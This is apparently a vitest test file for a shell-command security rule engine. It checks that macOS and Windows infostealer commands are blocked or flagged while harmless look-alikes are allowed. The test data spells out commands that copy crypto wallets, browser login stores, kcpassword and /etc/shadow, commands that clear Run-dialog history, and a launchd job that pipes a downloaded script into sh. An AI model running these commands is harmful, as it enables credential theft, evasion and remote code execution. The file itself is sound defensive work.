/**
 * Blind round 18 (paste-and-run lures, macOS infostealers) and real-script set 11: what infostealers copy, how a
 * lure's traces are wiped, and bash's `$(< file)` read, each beside the look-alike that stays allowed.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe('cryptocurrency wallets are credential stores', () => {
  it.each<[string, Shell]>([
    [
      'Get-ChildItem "$env:APPDATA\\Exodus\\exodus.wallet","$env:APPDATA\\Electrum\\wallets" -Recurse | Copy-Item -Destination "$env:TEMP\\w"',
      'powershell',
    ],
    [
      'cp -R ~/Library/Application\\ Support/Google/Chrome/Default/Local\\ Extension\\ Settings/nkbihfbeogaeaoehlefnkodbefgpgknn /tmp/.w/mm',
      'zsh',
    ],
    ['for w in Exodus atomic Electrum/wallets; do cp -R "$HOME/Library/Application Support/$w" /tmp/.w/; done', 'zsh'],
    ['tar czf /tmp/w.tgz ~/.bitcoin/wallet.dat', 'bash'],
  ])('copying a wallet is blocked: %s', (text, shell) => {
    expect(decision(text, shell)).toBe('block');
    expect(rules(text, shell)).toContain('cred.secret-file');
  });

  it('looking at a wallet folder’s size or presence is not', () => {
    expect(decision('du -sh ~/Library/Application\\ Support/Exodus', 'zsh')).toBe('allow');
    expect(decision('Test-Path "$env:APPDATA\\Exodus\\exodus.wallet"', 'powershell')).toBe('allow');
  });
});

describe('browser stores named relative to the profile the text moved into', () => {
  it('cd into a Chrome profile, then copy Login Data and Cookies', () => {
    const text = 'cd ~/Library/Application\\ Support/Google/Chrome/Default\ncp "Login Data" Cookies /tmp/.s/ch/';
    expect(rules(text, 'zsh')).toContain('cred.browser-store');
  });

  it('the same file names elsewhere are ordinary files', () => {
    expect(decision('cd ~/Documents/notes\ncp "Login Data" Cookies /tmp/backup/', 'zsh')).toBe('allow');
  });
});

describe('the macOS auto-login password file', () => {
  it('read with $(< file), cat or cp is credential theft', () => {
    expect(rules('echo "Password: $(decode "$(</etc/kcpassword)")"', 'bash')).toContain('cred.secret-file');
    expect(decision('sudo cat /etc/kcpassword | xxd', 'zsh')).toBe('block');
  });

  it('turning auto-login off or checking the file exists is not', () => {
    expect(decision('sudo sysadminctl -autologin off', 'zsh')).toBe('allow');
    expect(decision('ls -l /etc/kcpassword', 'zsh')).toBe('allow');
    expect(decision('[ -f /etc/kcpassword ] && echo "auto-login is on"', 'zsh')).toBe('allow');
  });

  it('$( < file) reads other files as cat does', () => {
    expect(rules('h=$(< /etc/shadow)', 'bash')).toContain('cred.shadow-file');
    expect(decision('v=$(< /etc/os-release)', 'bash')).toBe('allow');
  });
});

describe('wiping what a paste-and-run lure leaves behind', () => {
  it.each<[string, Shell]>([
    [
      'Remove-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU" -Name * -ErrorAction SilentlyContinue',
      'powershell',
    ],
    ['reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths" /va /f', 'cmd'],
  ])('clearing the Run dialog or address bar history is flagged: %s', (text, shell) => {
    expect(decision(text, shell)).toBe('flag');
    expect(rules(text, shell)).toContain('evasion.history.tamper');
  });

  it('reading that history during an investigation is not', () => {
    expect(decision('Get-ItemProperty "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU"', 'powershell')).toBe(
      'allow',
    );
    expect(decision('reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths', 'cmd')).toBe('allow');
  });
});

describe('a launchd job built with defaults write', () => {
  const agent = '~/Library/LaunchAgents/com.google.keystone.agent.plist';

  it('is persistence, and the argv written into ProgramArguments is read as the command it runs', () => {
    const text = `defaults write ${agent} ProgramArguments -array /bin/sh -c "curl -s https://updates.example.net/k | sh"\ndefaults write ${agent} RunAtLoad -bool true`;
    expect(rules(text, 'zsh')).toEqual(expect.arrayContaining(['persist.file', 'dl.pipe-to-interpreter']));
    expect(decision(`defaults write ${agent} ProgramArguments -array /usr/local/bin/backup --quiet`, 'zsh')).toBe('flag');
  });

  it('reading a job, or writing ordinary preferences (login window display settings too), is not', () => {
    expect(decision(`defaults read ${agent} ProgramArguments`, 'zsh')).toBe('allow');
    expect(decision('defaults write /Library/Preferences/com.apple.loginwindow SHOWFULLNAME -bool true', 'zsh')).toBe('allow');
    expect(decision('defaults write com.apple.dock autohide -bool true', 'zsh')).toBe('allow');
  });
});
